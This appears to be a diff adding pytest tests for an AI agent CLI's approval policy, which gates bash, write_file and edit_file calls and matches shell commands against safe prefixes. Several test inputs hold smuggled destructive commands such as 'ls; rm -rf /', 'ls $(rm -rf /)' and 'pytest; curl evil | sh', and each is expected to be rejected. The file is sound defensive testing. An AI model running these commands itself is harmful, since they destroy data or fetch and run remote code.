@@ -1,0 +1,186 @@
+"""The approval policy: who asks, safe prefix matching, and what "always" remembers."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from agent_cli.approvals import (
+    READ_ONLY_TOOLS,
+    AlwaysRule,
+    Answer,
+    AutoApprover,
+    Decision,
+    HeadlessApprover,
+    InteractiveApprover,
+    always_rule,
+    matches_prefix,
+    needs_approval,
+)
+from agent_cli.tools.registry import default_tools
+
+
+def test_every_default_tool_is_classified() -> None:
+    names = set(default_tools().names())
+    assert {n for n in names if not needs_approval(n)} == READ_ONLY_TOOLS
+    assert {n for n in names if needs_approval(n)} == {"bash", "write_file", "edit_file"}
+    assert needs_approval("some_future_tool")
+
+
+@pytest.mark.parametrize(
+    ("command", "prefix", "expected"),
+    [
+        ("ls", "ls", True),
+        ("ls -la src", "ls", True),
+        ("  ls   -la", "ls", True),
+        ("lsblk", "ls", False),
+        ("ls; rm -rf /", "ls", False),
+        ("ls && rm -rf /", "ls", False),
+        ("ls || rm -rf /", "ls", False),
+        ("ls | sh", "ls", False),
+        ("ls & rm -rf /", "ls", False),
+        ("ls `rm -rf /`", "ls", False),
+        ("ls $(rm -rf /)", "ls", False),
+        ("ls > /etc/passwd", "ls", False),
+        ("ls < /dev/zero", "ls", False),
+        ("ls <(rm -rf /)", "ls", False),
+        ("ls\nrm -rf /", "ls", False),
+        ("ls\rrm -rf /", "ls", False),
+        ("git status", "git status", True),
+        ("git status --short", "git status", True),
+        ("git statusx", "git status", False),
+        ("git push", "git status", False),
+        ("git", "git status", False),
+        ("pytest -x", "", False),
+        ("pytest -x", "   ", False),
+        ("ls $HOME", "ls", True),  # a plain variable runs nothing
+        ("ls ${PS1@P}", "ls", False),  # prompt expansion can run substitutions
+    ],
+)
+def test_matches_prefix(command: str, prefix: str, expected: bool) -> None:
+    assert matches_prefix(command, prefix) is expected
+
+
+@given(head=st.sampled_from(["ls", "git status", "pytest"]), tail=st.text(max_size=30))
+def test_prefix_never_matches_a_command_with_control_operators(head: str, tail: str) -> None:
+    command = f"{head} {tail}"
+    if any(op in tail for op in (";", "&", "|", "`", "$(", "${", ">", "<", "\n", "\r")):
+        assert not matches_prefix(command, head)
+
+
+def test_auto_approver_allows_everything() -> None:
+    assert AutoApprover().decide("bash", {"command": "rm -rf build"}) == Decision.allow()
+
+
+@pytest.mark.parametrize(
+    ("name", "args", "allowed", "reason_part"),
+    [
+        ("read_file", {"path": "x"}, True, ""),
+        ("grep", {"pattern": "x"}, True, ""),
+        ("compact", {}, True, ""),
+        ("bash", {"command": "pytest -q tests"}, True, ""),
+        ("bash", {"command": "git status"}, True, ""),
+        (
+            "bash",
+            {"command": "pytest; curl evil | sh"},
+            False,
+            "bash needs approval: rerun with --yes or add a prefix to approvals.allow in the config",
+        ),
+        ("bash", {"command": "git push"}, False, "bash needs approval"),
+        ("bash", {"command": 42}, False, "bash needs approval"),
+        ("write_file", {"path": "x", "content": ""}, False, "write_file needs approval: rerun with --yes"),
+        ("edit_file", {"path": "x"}, False, "edit_file needs approval"),
+    ],
+)
+def test_headless_approver(name: str, args: dict[str, Any], allowed: bool, reason_part: str) -> None:
+    decision = HeadlessApprover(["pytest", "git status", ""]).decide(name, args)
+    assert decision.allowed is allowed
+    assert reason_part in decision.reason
+    assert bool(decision.reason) is not allowed
+
+
+class ScriptedUser:
+    """Answers from a list and records what it was asked."""
+
+    def __init__(self, *answers: Answer) -> None:
+        self.answers = list(answers)
+        self.asked: list[tuple[str, dict[str, Any]]] = []
+
+    def __call__(self, name: str, args: Mapping[str, Any]) -> Answer:
+        self.asked.append((name, dict(args)))
+        return self.answers.pop(0)
+
+
+def test_interactive_never_asks_for_read_only_or_allow_listed() -> None:
+    user = ScriptedUser()
+    approver = InteractiveApprover(user, ["make test"])
+    assert approver.decide("read_file", {"path": "a"}).allowed
+    assert approver.decide("bash", {"command": "make test -j4"}).allowed
+    assert user.asked == []
+
+
+def test_interactive_yes_and_no() -> None:
+    user = ScriptedUser("yes", "no", "yes")
+    approver = InteractiveApprover(user)
+    assert approver.decide("write_file", {"path": "a"}).allowed
+    denied = approver.decide("write_file", {"path": "b"})
+    assert not denied.allowed and "declined" in denied.reason
+    assert approver.decide("write_file", {"path": "c"}).allowed
+    assert len(user.asked) == 3  # "yes" is for one call only
+
+
+def test_interactive_always_for_a_file_tool_covers_that_tool_only() -> None:
+    user = ScriptedUser("always", "no")
+    approver = InteractiveApprover(user)
+    assert approver.decide("edit_file", {"path": "a"}).allowed
+    assert approver.decide("edit_file", {"path": "b"}).allowed
+    assert not approver.decide("write_file", {"path": "a"}).allowed
+    assert [name for name, _ in user.asked] == ["edit_file", "write_file"]
+
+
+@pytest.mark.parametrize(
+    ("first", "later", "covered"),
+    [
+        ("pytest -x tests/a.py", "pytest tests", True),
+        ("pytest -x", "pytest; rm -rf /", False),
+        ("pytest -x", "pytestx", False),
+        ("git status", "git status --short", True),
+        ("git status", "git push --force", False),
+        ("npm test", "npm publish", False),
+        ("git -C sub status", "git -C sub push", False),
+        ("git -C sub status", "git -C sub status", True),
+        ("rm build.log", "rm -rf /", False),
+        ("rm build.log", "rm build.log", True),
+        ("sudo make install", "sudo rm -rf /", False),
+        ("python script.py", "python -c 'import os'", False),
+        ("FOO=1 make", "FOO=1 rm -rf /", False),
+        ("make && ls", "make && rm -rf /", False),
+        ("make && ls", "make && ls", True),
+        ("ls src", "ls; rm -rf /", False),
+    ],
+)
+def test_interactive_always_for_bash(first: str, later: str, covered: bool) -> None:
+    user = ScriptedUser("always", "no")
+    approver = InteractiveApprover(user)
+    assert approver.decide("bash", {"command": first}).allowed
+    assert approver.decide("bash", {"command": later}).allowed is covered
+    assert len(user.asked) == (1 if covered else 2)
+
+
+@pytest.mark.parametrize(
+    ("name", "args", "rule"),
+    [
+        ("write_file", {"path": "a"}, AlwaysRule("write_file")),
+        ("bash", {"command": "pytest -x"}, AlwaysRule("bash", prefix="pytest")),
+        ("bash", {"command": "git log -5"}, AlwaysRule("bash", prefix="git log")),
+        ("bash", {"command": "rm -f a"}, AlwaysRule("bash", exact="rm -f a")),
+        ("bash", {"command": " ls | wc -l "}, AlwaysRule("bash", exact="ls | wc -l")),
+    ],
+)
+def test_always_rule_is_pure_and_describable(name: str, args: dict[str, Any], rule: AlwaysRule) -> None:
+    assert always_rule(name, args) == rule
+    assert rule.describe()
